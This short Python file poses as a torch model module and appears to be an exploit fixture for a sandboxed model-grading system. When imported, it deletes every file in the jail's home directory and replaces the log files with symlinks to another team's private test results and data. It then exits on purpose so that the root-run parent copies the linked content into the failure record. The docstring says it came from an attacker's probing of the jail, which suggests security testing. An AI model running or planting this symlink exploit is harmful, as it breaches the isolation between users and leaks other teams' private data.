"""Replaces its process log with a link to another team's record, then fails, hoping the trusted parent (root,
outside the jail) follows the link when it copies the log's tail into the failure record (found by an
attacker's pass over the jail: the log once lived in the jail's writable home)."""
import ctypes
import os

from torch import nn

libc = ctypes.CDLL(None, use_errno=True)
for name in os.listdir("/home/fercomp"):
    libc.unlink(f"/home/fercomp/{name}".encode())
for name in ("process.log", "worker.log", "log"):
    libc.symlink(b"__RESULTS__/victim.PrivateTest.json", f"/home/fercomp/{name}".encode())
    libc.symlink(b"__DATA__", f"/home/fercomp/{name}.data".encode())


def build_model():
    raise SystemExit(3)


class Net(nn.Module):
    pass
